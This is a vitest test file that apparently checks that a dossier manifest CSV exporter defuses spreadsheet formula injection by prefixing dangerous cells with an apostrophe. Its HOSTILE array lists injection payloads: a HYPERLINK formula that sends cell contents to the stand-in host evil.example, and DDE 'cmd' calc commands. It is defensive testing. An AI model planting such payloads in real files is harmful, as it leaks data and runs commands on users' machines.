import { describe, expect, it } from 'vitest';
import { manifestCsv, type ManifestDossier } from '../../../main/engine/export/manifest';
import { SCAN_FIELDS } from '../../../main/engine/domain/field-reading';

/** Minimal RFC 4180 reader: what a spreadsheet gets in each cell. */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const text = csv.replace(/^\ufeff/, '');
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Xem hồ sơ")', "-1+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '+84912345678', '\t=1+1', '＝1+1'];

describe('manifest.csv against formula injection', () => {
  it('writes no cell a spreadsheet would run as a formula, whether the value came from the record, the scan or a decision', () => {
    const values = Object.fromEntries(SCAN_FIELDS.map((f, i) => [f, HOSTILE[i % HOSTILE.length]!])) as ManifestDossier['values'];
    const dossier: ManifestDossier = {
      id: 'DS000001',
      record_id: '=1+2',
      pages: 2,
      file: 'dossiers/DS000001.pdf',
      values,
      corrections: [{ field: 'owner_name', action: 'keep-record', value: null, record_value: HOSTILE[0]!, scan_value: null, user: '=lan', at: '2025-01-01', reason: null }],
    };
    const rows = cells(Buffer.from(manifestCsv([dossier], [{ path: dossier.file, bytes: 1, sha256: 'a'.repeat(64) }])).toString('utf8'));
    expect(rows).toHaveLength(2);
    for (const cell of rows[1]!) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    // The value itself is kept, after the apostrophe spreadsheets hide.
    expect(rows[1]).toContain(`'${HOSTILE[1]}`);
    expect(rows[1]![1]).toBe("'=1+2");
    // Ordinary values are untouched.
    expect(rows[1]![2]).toBe('2');
    expect(rows[1]![0]).toBe('DS000001');
  });
});
